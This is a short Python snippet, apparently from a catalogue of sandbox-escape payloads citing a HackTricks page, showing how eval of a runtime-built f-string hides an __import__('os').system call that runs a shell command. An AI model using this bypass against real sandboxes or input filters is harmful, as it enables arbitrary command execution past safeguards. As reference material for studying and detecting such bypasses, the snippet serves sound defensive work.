# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes
# Family: fstring
# What: eval of an f-string built at runtime hides the payload
cmd = "id"
eval(f"__import__('os').system('{cmd}')")
